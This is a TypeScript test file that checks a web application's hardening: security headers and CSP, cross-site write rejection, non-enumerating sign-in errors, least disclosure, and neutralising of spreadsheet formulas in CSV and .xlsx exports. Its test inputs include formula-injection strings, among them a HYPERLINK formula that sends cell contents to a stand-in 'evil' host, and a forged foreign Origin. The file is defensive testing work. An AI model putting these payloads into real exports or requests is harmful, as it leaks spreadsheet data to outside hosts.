/**
 * Web hardening over HTTP: security headers and the CSP, no-store on sign-in, the Origin check on
 * cookie-authenticated writes, error shapes for what Node and Fastify refuse before a route runs,
 * sign-in answers that do not tell a locked account from a wrong password, least disclosure of a
 * decision to its applicant, and exports that cannot carry a formula.
 */
import { randomUUID } from 'node:crypto';
import { request as httpRequest } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Writable } from 'node:stream';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildApp } from '../../src/api/app.ts';
import { wanToFen } from '../../src/core/money.ts';
import { neutraliseFormula } from '../../src/core/spreadsheet.ts';
import { sinkFor } from '../../src/screening/export.ts';
import {
  applicationsTestbed,
  matters,
  recommendedApplication,
  TestClock,
} from '../../src/service/applications/testing.ts';
import { hashToken } from '../../src/service/auth/service.ts';
import { SessionRepository } from '../../src/storage/repositories/users.ts';
import { describeEachDatabase } from '../support/databases.ts';
import { testCatalogue, testUscc } from '../support/fixtures.ts';
import { hasErrorShape, securityWorld, type World } from './support.ts';

describe('formula neutralising', () => {
  it('prefixes = + - @ tab and CR with an apostrophe, and nothing else', () => {
    for (const bad of ['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '=HYPERLINK("http://x")'])
      expect(neutraliseFormula(bad)).toBe(`'${bad}`);
    for (const ok of ['松江', 'a=b', '1-2', "'x", ''] as const) expect(neutraliseFormula(ok)).toBe(ok);
  });

  it('CSV and .xlsx exports carry no live formula', async () => {
    const row = [['=HYPERLINK("http://evil/?"&A1)', '@cmd', '正常单位', 42]];
    let csv = '';
    const csvOut = new Writable({
      write(chunk, _e, cb) {
        csv += chunk.toString();
        cb();
      },
    });
    const csvSink = await sinkFor('csv', csvOut, ['a', 'b', 'c', 'd']);
    await csvSink.rows(row);
    await csvSink.close();
    expect(csv).toContain(`"'=HYPERLINK(""http://evil/?""&A1)"`);
    expect(csv).toContain("'@cmd");
    const chunks: Buffer[] = [];
    const xlsxOut = new Writable({
      write(chunk, _e, cb) {
        chunks.push(Buffer.from(chunk));
        cb();
      },
    });
    const xlsxSink = await sinkFor('xlsx', xlsxOut, ['a', 'b', 'c', 'd']);
    await xlsxSink.rows(row);
    await xlsxSink.close();
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.concat(chunks) as unknown as ArrayBuffer);
    const cells = book.worksheets[0]!.getRow(2).values as unknown[];
    expect(cells.slice(1)).toEqual([`'=HYPERLINK("http://evil/?"&A1)`, "'@cmd", '正常单位', 42]);
  });
});

describeEachDatabase('security over HTTP', (ctx) => {
  let world: World;
  beforeAll(async () => {
    world = await securityWorld(ctx.db);
  });
  afterAll(async () => {
    await world?.t.app.close();
  });

  it('every answer carries the security headers; the CSP lets the UI work and nothing else run', async () => {
    const res = await world.t.app.inject({ method: 'GET', url: '/api/catalogue' });
    const csp = String(res.headers['content-security-policy']);
    expect(csp).toContain("default-src 'self'");
    expect(csp).toContain("script-src 'self';");
    expect(csp).not.toMatch(/script-src[^;]*unsafe/);
    expect(csp).toContain("style-src 'self' 'unsafe-inline'");
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).toContain("object-src 'none'");
    expect(res.headers['x-frame-options']).toBe('DENY');
    expect(res.headers['x-content-type-options']).toBe('nosniff');
    expect(res.headers['referrer-policy']).toBe('same-origin');
    expect(res.headers['cache-control']).toBe('no-store');
  });

  it('the sign-in answer is never cached', async () => {
    const res = await world.t.app.inject({
      method: 'POST',
      url: '/api/auth/login',
      payload: { username: 'sec-auditor', password: 'Test-Password-2026' },
    });
    expect(res.statusCode).toBe(200);
    expect(res.headers['cache-control']).toBe('no-store');
  });

  describe('cross-site requests', () => {
    async function cookie(): Promise<string> {
      const res = await world.t.app.inject({
        method: 'POST',
        url: '/api/auth/login',
        payload: { username: 'sec-admin', password: 'Test-Password-2026' },
      });
      return res.cookies.find((c) => c.name === 'ceyuan_session')!.value;
    }
    const csv = `uscc,name,kind,city\n${testUscc(31337)},跨站导入,enterprise,songjiang\n`;
    const count = async () =>
      Number(
        (
          await ctx.db
            .selectFrom('organisations')
            .select((eb) => eb.fn.countAll().as('n'))
            .executeTakeFirstOrThrow()
        ).n,
      );

    /** The registry import with the officer's cookie, from an origin (or none) and a content type. */
    const importWithCookie = async (origin: string | null, type = 'text/csv') =>
      world.t.app.inject({
        method: 'POST',
        url: '/api/organisations/import',
        headers: { 'content-type': type, host: 'ceyuan.example', ...(origin ? { origin } : {}) },
        cookies: { ceyuan_session: await cookie() },
        payload: csv,
      });

    it('a text/plain POST from a foreign origin with an officer’s cookie gets 403 and imports nothing', async () => {
      const before = await count();
      const res = await importWithCookie('http://evil.example', 'text/plain');
      expect(res.statusCode).toBe(403);
      expect(hasErrorShape(res.body)).toBe(true);
      expect(res.json().error.code).toBe('FORBIDDEN');
      expect(await count()).toBe(before);
      // A sibling port of the same host is another origin too.
      expect((await importWithCookie('http://ceyuan.example:8080', 'text/plain')).statusCode).toBe(403);
      // Without any Origin or Referer, a cookie alone does not authorise a change either.
      expect((await importWithCookie(null)).statusCode).toBe(403);
      expect(await count()).toBe(before);
    });

    it('the same origin, and a Bearer client, may change things', async () => {
      const same = await importWithCookie('http://ceyuan.example');
      expect(same.statusCode, same.body).toBe(200);
      const bearer = await world.t.app.inject({
        method: 'POST',
        url: '/api/organisations/import',
        headers: { 'content-type': 'text/csv', ...world.headers.admin },
        payload: csv,
      });
      expect(bearer.statusCode, bearer.body).toBe(200);
    });
  });

  it('a locked account answers exactly like a wrong password (no enumeration)', async () => {
    const { t } = world;
    await t.createUser('sec-lockme', 'reviewer');
    const attempt = (username: string, password: string) =>
      t.app.inject({ method: 'POST', url: '/api/auth/login', payload: { username, password } });
    const unknown = await attempt('sec-nobody', 'Wrong-guess-1');
    for (let i = 0; i < 6; i++) await attempt('sec-lockme', `Wrong-guess-${i}`);
    const locked = await attempt('sec-lockme', 'Test-Password-2026');
    expect(locked.statusCode).toBe(unknown.statusCode);
    expect(locked.body).toBe(unknown.body);
  });

  it('what Node and Fastify refuse before a route also answers in the error shape', async () => {
    const { t } = world;
    const badUrl = await t.app.inject({ method: 'GET', url: '/api/organisations/%ff' });
    expect(badUrl.statusCode).toBe(400);
    expect(hasErrorShape(badUrl.body)).toBe(true);
    const long = await t.app.inject({ method: 'GET', url: `/api/organisations/${'x'.repeat(300)}` });
    expect(long.statusCode).toBe(414);
    expect(hasErrorShape(long.body)).toBe(true);
    const big = await t.app.inject({
      method: 'POST',
      url: '/api/calc',
      headers: { 'content-type': 'application/json' },
      payload: `{"a":"${'x'.repeat(2 * 1024 * 1024)}"}`,
    });
    expect(big.statusCode).toBe(413);
    expect(hasErrorShape(big.body)).toBe(true);
    const missing = await t.app.inject({ method: 'GET', url: '/api/nothing-here' });
    expect(missing.statusCode).toBe(404);
    expect(hasErrorShape(missing.body)).toBe(true);

    // 431 comes from Node's HTTP parser: only a real socket shows it.
    await t.app.listen({ host: '127.0.0.1', port: 0 });
    const { port } = t.app.server.address() as AddressInfo;
    const huge = await new Promise<{ status: number; body: string }>((resolve, reject) => {
      const req = httpRequest(
        { host: '127.0.0.1', port, path: '/api/catalogue', headers: { 'x-filler': 'y'.repeat(64 * 1024) } },
        (res) => {
          let body = '';
          res.on('data', (c) => {
            body += c;
          });
          res.on('end', () => resolve({ status: res.statusCode ?? 0, body }));
        },
      );
      req.on('error', reject);
      req.end();
    });
    expect(huge.status).toBe(431);
    expect(hasErrorShape(huge.body)).toBe(true);
  });

  it('simulating over budgets at their ceiling stays exact (no 500)', async () => {
    const h = world.headers.admin;
    for (const fund of ['000', '001', '002']) {
      const r = await world.t.app.inject({
        method: 'PUT',
        url: `/api/budgets/${fund}/2026`,
        headers: h,
        payload: { amount: Number.MAX_SAFE_INTEGER },
      });
      expect(r.statusCode).toBe(400);
      await world.t.app.inject({
        method: 'PUT',
        url: `/api/budgets/${fund}/2026`,
        headers: h,
        payload: { amount: 100_000_000_000_000 },
      });
    }
    const sim = await world.t.app.inject({
      method: 'POST',
      url: '/api/simulations',
      headers: h,
      payload: {
        date: '2026-07-01',
        years: [2026],
        changes: [{ kind: 'cap', measureId: '000·二', capWan: 10_000_000 }],
      },
    });
    expect(sim.statusCode, sim.body).toBeLessThan(500);
  });
});

describeEachDatabase('least disclosure', (ctx) => {
  it('an enterprise reads its own decision’s amount and reasons, never the fund’s budget or commitments', async () => {
    const clock = new TestClock(new Date('2026-09-10T04:00:00Z'));
    const { world, service, ledger } = await applicationsTestbed(ctx.db, clock);
    await ledger.setBudget(world.users.admin, { fund: '000', year: 2026, amount: wanToFen(50_000) });
    const app = await recommendedApplication(
      service,
      world.users.reviewer,
      world.users.enterprise,
      '000·二',
      matters.challenge(`disclose-${randomUUID()}`),
      wanToFen(1500),
    );
    await service.approve(world.users.approver, app.id);
    const api = await buildApp({
      db: ctx.db,
      catalogue: testCatalogue(),
      clock,
      logger: false,
      webDir: '/nonexistent',
    });
    const session = async (userId: string) => {
      const token = randomUUID();
      await new SessionRepository(ctx.db).insert({
        token_hash: hashToken(token),
        user_id: userId,
        created_at: clock.now(),
        last_seen_at: clock.now(),
        expires_at: new Date(clock.now().getTime() + 3_600_000),
      });
      return { authorization: `Bearer ${token}` };
    };
    const detail = (await service.get(world.users.admin, app.id)).timeline;
    const step = detail.find((d) => d.action === 'approve')!.step;
    const url = `/api/applications/${app.id}/decisions/${step}`;
    const own = await api.inject({ method: 'GET', url, headers: await session(world.users.enterprise.id) });
    expect(own.statusCode).toBe(200);
    const text = own.body;
    expect(own.json().amount).toBe(wanToFen(1500));
    expect(own.json().evaluation).toBeTruthy();
    expect(own.json().detail).not.toHaveProperty('budget');
    expect(own.json().detail).not.toHaveProperty('committedBefore');
    expect(text).not.toContain(String(wanToFen(50_000)));
    const officer = await api.inject({ method: 'GET', url, headers: await session(world.users.approver.id) });
    expect(officer.json().detail).toMatchObject({ budget: wanToFen(50_000) });
    // The fund's figures themselves are officers' and auditors' only.
    const budget = await api.inject({
      method: 'GET',
      url: '/api/budgets/000/2026',
      headers: await session(world.users.enterprise.id),
    });
    expect(budget.statusCode).toBe(403);
    await api.close();
  });
});
